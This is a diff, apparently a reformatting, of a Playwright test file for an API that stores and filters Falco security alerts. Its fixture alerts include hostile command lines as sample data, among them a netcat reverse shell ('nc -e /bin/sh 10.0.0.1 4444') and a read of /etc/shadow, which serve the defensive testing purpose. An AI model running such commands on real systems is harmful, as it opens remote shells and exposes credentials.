@@ -4,7 +4,17 @@ import { expect, test, type APIRequestContext } from '@playwright/test';
 import { readFileSync } from 'node:fs';
 import path from 'node:path';
 import { eventCount, makeAlert, post, uniqueTag } from '../fixtures/alerts';
-import { expectError, expectIngested, falcoTimeAgo, listAllIds, listEvents, nsToTime, sendRaw, timeToNs, type Params } from '../fixtures/api-helpers';
+import {
+  expectError,
+  expectIngested,
+  falcoTimeAgo,
+  listAllIds,
+  listEvents,
+  nsToTime,
+  sendRaw,
+  timeToNs,
+  type Params,
+} from '../fixtures/api-helpers';
 import { SERVERS } from '../servers';
 
 const base = SERVERS.main.url;
@@ -45,7 +55,9 @@ function build(hostname: string, spec: Spec): Record<string, unknown> {
   };
   if (spec.fdName) fields['fd.name'] = spec.fdName;
   if (spec.chain[1]) fields['proc.pname'] = spec.chain[1];
-  spec.chain.slice(2).forEach((name, i) => { fields[`proc.aname[${i + 2}]`] = name; });
+  spec.chain.slice(2).forEach((name, i) => {
+    fields[`proc.aname[${i + 2}]`] = name;
+  });
   return makeAlert({
     hostname,
     output: `${spec.time.slice(11, 29)}: ${spec.priority} ${spec.text} (user=${spec.user} command=${spec.cmdline} container=${containerId})`,
@@ -70,24 +82,128 @@ test.describe('filters', () => {
   const [t1, t2, t3, t4] = ['t1', 't2', 't3', 't4'].map((t) => `${host}-${t}`) as [string, string, string, string];
   const times = Array.from({ length: 6 }, (_, i) => falcoTimeAgo(1200 - i * 10));
   const specs = {
-    A: { rule: R1, priority: 'Critical', time: times[0]!, container: ['aaaaaaaaaaaa', 'web'], image: ['nginx', '1.25'], namespace: 'prod', pod: 'web-1', tags: [t1], user: 'root', chain: ['nc', 'sh', 'bash', 'tmux'], cmdline: 'nc -e /bin/sh 10.0.0.1 4444', text: 'Netcat remote code execution' },
-    B: { rule: R2, priority: 'Warning', time: times[1]!, container: ['bbbbbbbbbbbb', 'db'], image: ['postgres', '16'], namespace: 'prod', pod: 'db-0', tags: [t2], user: 'postgres', chain: ['cat', 'sudo', 'sudo', 'zsh'], cmdline: 'cat /etc/shadow', fdName: '/etc/shadow', text: 'Sensitive file opened for reading' },
-    C: { rule: R1, priority: 'Notice', time: times[2]!, tags: [t1], user: 'alice', chain: ['mysql', 'bash'], cmdline: 'mysql -u root --password=hunter2', text: 'Password on the command line' },
-    D: { rule: R3, priority: 'Informational', time: times[3]!, container: ['aaaaaaaaaaaa', 'web'], image: ['nginx', '1.25'], namespace: 'staging', pod: 'web-2', tags: [t3], user: 'root', chain: ['python3', 'sh'], cmdline: 'python3 -c print(1)', text: 'Config key a-b changed' },
-    E: { rule: R2, priority: 'Error', time: times[4]!, container: ['cccccccccccc', 'worker'], image: ['registry.local:5000/tools/worker', '2.0'], namespace: 'staging', pod: 'worker-0', tags: [t2, t3], user: 'www-data', chain: ['curl', 'sh'], cmdline: 'curl http://10.0.0.9/100%_done', text: 'Progress 100%_done reached' },
-    F: { rule: R3, priority: 'Debug', time: times[5]!, container: ['dddddddddddd', 'batch'], image: ['busybox', 'latest'], namespace: 'prod', pod: 'batch-1', tags: [t4], user: 'daemon', chain: ['wget'], cmdline: 'wget http://10.0.0.9/1000xdone', text: 'Progress 1000xdone reached' },
+    A: {
+      rule: R1,
+      priority: 'Critical',
+      time: times[0]!,
+      container: ['aaaaaaaaaaaa', 'web'],
+      image: ['nginx', '1.25'],
+      namespace: 'prod',
+      pod: 'web-1',
+      tags: [t1],
+      user: 'root',
+      chain: ['nc', 'sh', 'bash', 'tmux'],
+      cmdline: 'nc -e /bin/sh 10.0.0.1 4444',
+      text: 'Netcat remote code execution',
+    },
+    B: {
+      rule: R2,
+      priority: 'Warning',
+      time: times[1]!,
+      container: ['bbbbbbbbbbbb', 'db'],
+      image: ['postgres', '16'],
+      namespace: 'prod',
+      pod: 'db-0',
+      tags: [t2],
+      user: 'postgres',
+      chain: ['cat', 'sudo', 'sudo', 'zsh'],
+      cmdline: 'cat /etc/shadow',
+      fdName: '/etc/shadow',
+      text: 'Sensitive file opened for reading',
+    },
+    C: {
+      rule: R1,
+      priority: 'Notice',
+      time: times[2]!,
+      tags: [t1],
+      user: 'alice',
+      chain: ['mysql', 'bash'],
+      cmdline: 'mysql -u root --password=hunter2',
+      text: 'Password on the command line',
+    },
+    D: {
+      rule: R3,
+      priority: 'Informational',
+      time: times[3]!,
+      container: ['aaaaaaaaaaaa', 'web'],
+      image: ['nginx', '1.25'],
+      namespace: 'staging',
+      pod: 'web-2',
+      tags: [t3],
+      user: 'root',
+      chain: ['python3', 'sh'],
+      cmdline: 'python3 -c print(1)',
+      text: 'Config key a-b changed',
+    },
+    E: {
+      rule: R2,
+      priority: 'Error',
+      time: times[4]!,
+      container: ['cccccccccccc', 'worker'],
+      image: ['registry.local:5000/tools/worker', '2.0'],
+      namespace: 'staging',
+      pod: 'worker-0',
+      tags: [t2, t3],
+      user: 'www-data',
+      chain: ['curl', 'sh'],
+      cmdline: 'curl http://10.0.0.9/100%_done',
+      text: 'Progress 100%_done reached',
+    },
+    F: {
+      rule: R3,
+      priority: 'Debug',
+      time: times[5]!,
+      container: ['dddddddddddd', 'batch'],
+      image: ['busybox', 'latest'],
+      namespace: 'prod',
+      pod: 'batch-1',
+      tags: [t4],
+      user: 'daemon',
+      chain: ['wget'],
+      cmdline: 'wget http://10.0.0.9/1000xdone',
+      text: 'Progress 1000xdone reached',
+    },
     // Three hours old: outside `from=1h`.
-    G: { rule: R4, priority: 'Notice', time: falcoTimeAgo(3 * 3600), tags: [t4], user: 'root', chain: ['ls'], cmdline: 'ls', text: 'An old one' },
+    G: {
+      rule: R4,
+      priority: 'Notice',
+      time: falcoTimeAgo(3 * 3600),
+      tags: [t4],
+      user: 'root',
+      chain: ['ls'],
+      cmdline: 'ls',
+      text: 'An old one',
+    },
     // Falco's own health event: left out unless asked for.
-    I: { rule: `Falco internal: ${host} syscall event drop`, priority: 'Debug', time: falcoTimeAgo(1100), tags: [], user: 'root', chain: ['falco'], cmdline: 'falco', text: 'dropped', source: 'internal' },
+    I: {
+      rule: `Falco internal: ${host} syscall event drop`,
+      priority: 'Debug',
+      time: falcoTimeAgo(1100),
+      tags: [],
+      user: 'root',
+      chain: ['falco'],
+      cmdline: 'falco',
+      text: 'dropped',
+      source: 'internal',
+    },
   } satisfies Record<string, Spec>;
   type Name = keyof typeof specs;
   const ids = {} as Record<Name, number>;
 
   test.beforeAll(async ({ request }) => {
     const names = Object.keys(specs) as Name[];
-    const report = await expectIngested(await post(request, `${base}/api/events`, names.map((name) => build(host, specs[name]))), names.length, 0);
-    names.forEach((name, i) => { ids[name] = report.ids[i]!; });
+    const report = await expectIngested(
+      await post(
+        request,
+        `${base}/api/events`,
+        names.map((name) => build(host, specs[name])),
+      ),
+      names.length,
+      0,
+    );
+    names.forEach((name, i) => {
+      ids[name] = report.ids[i]!;
+    });
   });
 
   /** The names of the alerts a query selects, checked to come newest first. */
@@ -182,7 +298,10 @@ test.describe('filters', () => {
     const early = nsToTime(ms + 100_000n);
     const late = nsToTime(ms + 900_000n);
     const report = await expectIngested(
-      await post(request, `${base}/api/events`, [makeAlert({ hostname, time: early }), makeAlert({ hostname, time: late })]),
+      await post(request, `${base}/api/events`, [
+        makeAlert({ hostname, time: early }),
+        makeAlert({ hostname, time: late }),
+      ]),
       2,
       0,
     );
@@ -194,13 +313,15 @@ test.describe('filters', () => {
     expect(await listAllIds(request, base, { hostname, to: late })).toEqual([earlyId]);
   });
 
-  test('q: a prefix beginning too many words to read quickly is refused by every read, saying what to do; a longer one is answered', async ({ request }) => {
+  test('q: a prefix beginning too many words to read quickly is refused by every read, saying what to do; a longer one is answered', async ({
+    request,
+  }) => {
     test.setTimeout(120_000);
     const hostname = uniqueTag('query-broad');
     // Distinct words beginning with "zqx", enough for their lists to pass MAX_PREFIX_PAGES (lib/db/event-search.ts).
     // Three years ago, out of every other test's time range.
     let seed = 7;
-    const word = () => `zqx${(seed = (seed * 48271) % 2147483647).toString(36)}`;
+    const word = () => `zqx${((seed = (seed * 48271) % 2147483647)).toString(36)}`;
     let first = '';
     for (let batch = 0; batch < 3; batch++) {
       const alerts = Array.from({ length: 500 }, (_, i) => {
@@ -210,17 +331,35 @@ test.describe('filters', () => {
       });
       await expectIngested(await post(request, `${base}/api/events`, alerts), 500, 0);
     }
-    const message = 'Too many words begin with "zqx" to search them all quickly: type more of the word before the *, or the whole word.';
-    for (const path of ['/api/events', '/api/events/export', '/api/stats/summary', '/api/stats/timeline', '/api/stats/top?dimension=rule', '/api/rules', '/api/containers', '/api/process-tree', '/api/stream']) {
-      const response = await request.get(`${base}${path}${path.includes('?') ? '&' : '?'}from=all&q=${encodeURIComponent('ZQX*')}`);
+    const message =
+      'Too many words begin with "zqx" to search them all quickly: type more of the word before the *, or the whole word.';
+    for (const path of [
+      '/api/events',
+      '/api/events/export',
+      '/api/stats/summary',
+      '/api/stats/timeline',
+      '/api/stats/top?dimension=rule',
+      '/api/rules',
+      '/api/containers',
+      '/api/process-tree',
+      '/api/stream',
+    ]) {
+      const response = await request.get(
+        `${base}${path}${path.includes('?') ? '&' : '?'}from=all&q=${encodeURIComponent('ZQX*')}`,
+      );
       const body = await expectError(response, 400, 'invalid_query');
       expect(body.error.message, path).toBe(message);
-      expect(body.error.issues?.map((issue) => issue.field), path).toEqual(['q']);
+      expect(
+        body.error.issues?.map((issue) => issue.field),
+        path,
+      ).toEqual(['q']);
     }
     // One of those words, whole or as a longer prefix, is answered.
     const withFirst = await listAllIds(request, base, { from: 'all', q: first });
     expect(withFirst).toHaveLength(1);
-    expect(await listAllIds(request, base, { from: 'all', hostname, q: `${first.slice(0, 5)}*` })).toContain(withFirst[0]);
+    expect(await listAllIds(request, base, { from: 'all', hostname, q: `${first.slice(0, 5)}*` })).toContain(
+      withFirst[0],
+    );
   });
 });
 
@@ -229,12 +368,22 @@ test.describe('keyset pagination', () => {
     return listEvents(request, base, { hostname, limit, ...(cursor ? { cursor } : {}) });
   }
 
-  test('limit 3 over 10 alerts: every alert exactly once, newest first, nextCursor null at the end', async ({ request }) => {
+  test('limit 3 over 10 alerts: every alert exactly once, newest first, nextCursor null at the end', async ({
+    request,
+  }) => {
     const hostname = uniqueTag('pages');
     // Posted out of time order, so arrival order (id) and time order differ.
     const times = Array.from({ length: 10 }, (_, i) => falcoTimeAgo(900 - i * 7));
     const shuffled = [3, 7, 0, 9, 1, 5, 8, 2, 6, 4].map((i) => times[i]!);
-    const report = await expectIngested(await post(request, `${base}/api/events`, shuffled.map((time) => makeAlert({ hostname, time }))), 10, 0);
+    const report = await expectIngested(
+      await post(
+        request,
+        `${base}/api/events`,
+        shuffled.map((time) => makeAlert({ hostname, time })),
+      ),
+      10,
+      0,
+    );
     const idByTime = new Map(shuffled.map((time, i) => [time, report.ids[i]!]));
     const expectedOrder = [...times].reverse().map((time) => idByTime.get(time)!);
 
@@ -266,7 +415,11 @@ test.describe('keyset pagination', () => {
     expect(cursor).toBeTruthy();
     const second = await page(request, hostname, 3, cursor);
 
-    const newer = await expectIngested(await post(request, `${base}/api/events`, makeAlert({ hostname, time: falcoTimeAgo(1) })), 1, 0);
+    const newer = await expectIngested(
+      await post(request, `${base}/api/events`, makeAlert({ hostname, time: falcoTimeAgo(1) })),
+      1,
+      0,
+    );
     const secondAgain = await page(request, hostname, 3, cursor);
     expect(secondAgain.events.map((e) => e.id)).toEqual(second.events.map((e) => e.id));
     expect(secondAgain.nextCursor).toBe(second.nextCursor);
@@ -294,11 +447,18 @@ test.describe('keyset pagination', () => {
 
   test('a cursor combines with filters', async ({ request }) => {
     const hostname = uniqueTag('cursor-filter');
-    const alerts = Array.from({ length: 6 }, (_, i) => makeAlert({ hostname, priority: i % 2 === 0 ? 'Critical' : 'Notice', time: falcoTimeAgo(650 - i) }));
+    const alerts = Array.from({ length: 6 }, (_, i) =>
+      makeAlert({ hostname, priority: i % 2 === 0 ? 'Critical' : 'Notice', time: falcoTimeAgo(650 - i) }),
+    );
     const report = await expectIngested(await post(request, `${base}/api/events`, alerts), 6, 0);
     const criticalIds = report.ids.filter((_, i) => i % 2 === 0).reverse();
     const first = await listEvents(request, base, { hostname, priority: 'Critical', limit: 2 });
-    const rest = await listEvents(request, base, { hostname, priority: 'Critical', limit: 2, cursor: first.nextCursor! });
+    const rest = await listEvents(request, base, {
+      hostname,
+      priority: 'Critical',
+      limit: 2,
+      cursor: first.nextCursor!,
+    });
     expect([...first.events, ...rest.events].map((e) => e.id)).toEqual(criticalIds);
     expect(rest.nextCursor).toBeNull();
   });
@@ -339,14 +499,23 @@ test.describe('exact numbers and health', () => {
     expect(response.status()).toBe(200);
     const health = (await response.json()) as Record<string, unknown>;
     expect(Object.keys(health).sort()).toEqual(['events', 'newestEventTime', 'status', 'version']);
-    const pkg = JSON.parse(readFileSync(path.join(__dirname, '..', '..', 'package.json'), 'utf8')) as { version: string };
+    const pkg = JSON.parse(readFileSync(path.join(__dirname, '..', '..', 'package.json'), 'utf8')) as {
+      version: string;
+    };
     expect(health.status).toBe('ok');
     expect(health.version).toBe(pkg.version);
     expect(Number.isSafeInteger(health.events)).toBe(true);
 
     const time = falcoTimeAgo(0.5);
-    await expectIngested(await post(request, `${base}/api/events`, makeAlert({ hostname: uniqueTag('health'), time })), 1, 0);
-    const after = (await (await request.get(`${base}/api/health`)).json()) as { events: number; newestEventTime: string };
+    await expectIngested(
+      await post(request, `${base}/api/events`, makeAlert({ hostname: uniqueTag('health'), time })),
+      1,
+      0,
+    );
+    const after = (await (await request.get(`${base}/api/health`)).json()) as {
+      events: number;
+      newestEventTime: string;
+    };
     expect(after.events).toBe(await eventCount(request, base));
     expect(after.events, 'one more alert').toBe((health.events as number) + 1);
     expect(after.newestEventTime).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{9}Z$/);
@@ -373,13 +542,20 @@ test.describe('process trees and rule trends', () => {
   };
   const alertsIn = (t: Tree) => t.scopes.reduce((sum, scope) => sum + scope.count, 0);
 
-  test('a process tree holds the newest `alerts` alerts, says since when and of how many, and is whole from that time on', async ({ request }) => {
+  test('a process tree holds the newest `alerts` alerts, says since when and of how many, and is whole from that time on', async ({
+    request,
+  }) => {
     const hostname = uniqueTag('tree-sample');
     const container = { 'container.id': `c${hostname.slice(-11)}`, 'container.name': `web-${hostname}` };
     // Four alerts a second apart, oldest first, in one container; one Kubernetes audit alert (no process).
     const times = [40, 30, 20, 10].map((secondsAgo) => falcoTimeAgo(secondsAgo));
-    const alerts = times.map((time, i) => makeAlert({ hostname, time, fields: { ...container, 'proc.name': `step${i}`, 'proc.cmdline': `step${i}` } }));
-    alerts.push({ ...makeAlert({ hostname, time: falcoTimeAgo(5), source: 'k8s_audit' }), output_fields: { 'ka.user.name': 'system:anonymous' } });
+    const alerts = times.map((time, i) =>
+      makeAlert({ hostname, time, fields: { ...container, 'proc.name': `step${i}`, 'proc.cmdline': `step${i}` } }),
+    );
+    alerts.push({
+      ...makeAlert({ hostname, time: falcoTimeAgo(5), source: 'k8s_audit' }),
+      output_fields: { 'ka.user.name': 'system:anonymous' },
+    });
     await expectIngested(await post(request, `${base}/api/events`, alerts), 5, 0);
 
     const whole = await tree(request, `hostname=${hostname}&from=1h`);
@@ -391,7 +567,10 @@ test.describe('process trees and rule trends', () => {
     expect(alertsIn(newest)).toBe(3);
     // By the container's id or by its name: the same newest three.
     for (const value of [container['container.id'], container['container.name']]) {
-      const byContainer = await tree(request, `hostname=${hostname}&from=1h&alerts=3&container=${encodeURIComponent(value)}`);
+      const byContainer = await tree(
+        request,
+        `hostname=${hostname}&from=1h&alerts=3&container=${encodeURIComponent(value)}`,
+      );
       expect(byContainer.sample, value).toEqual({ alerts: 3, since: times[1], total: 4 });
       expect(byContainer.scopes, value).toEqual(newest.scopes);
     }
@@ -405,14 +584,21 @@ test.describe('process trees and rule trends', () => {
     expect(((await bad.json()) as { error: { code: string } }).error.code).toBe('invalid_query');
   });
 
-  test('rule trends count in whole-hour buckets over a day, every trend as long as the buckets and summing to its count', async ({ request }) => {
+  test('rule trends count in whole-hour buckets over a day, every trend as long as the buckets and summing to its count', async ({
+    request,
+  }) => {
     const hostname = uniqueTag('trend');
     const rule = `${hostname} rule`;
-    const alerts = [3 * 3600, 2 * 3600 + 5, 600, 60].map((secondsAgo) => makeAlert({ hostname, rule, time: falcoTimeAgo(secondsAgo) }));
+    const alerts = [3 * 3600, 2 * 3600 + 5, 600, 60].map((secondsAgo) =>
+      makeAlert({ hostname, rule, time: falcoTimeAgo(secondsAgo) }),
+    );
     await expectIngested(await post(request, `${base}/api/events`, alerts), 4, 0);
     const response = await request.get(`${base}/api/rules?hostname=${hostname}&from=24h`);
     expect(response.status()).toBe(200);
-    const { rules, trend } = (await response.json()) as { rules: { rule: string; count: number; trend: number[] }[]; trend: { start: number; widthMs: number; buckets: number; from: number; to: number } };
+    const { rules, trend } = (await response.json()) as {
+      rules: { rule: string; count: number; trend: number[] }[];
+      trend: { start: number; widthMs: number; buckets: number; from: number; to: number };
+    };
     expect(trend.widthMs).toBe(3_600_000);
     expect(trend.start % 3_600_000).toBe(0);
     expect(trend.to - trend.from).toBe(86_400_000);
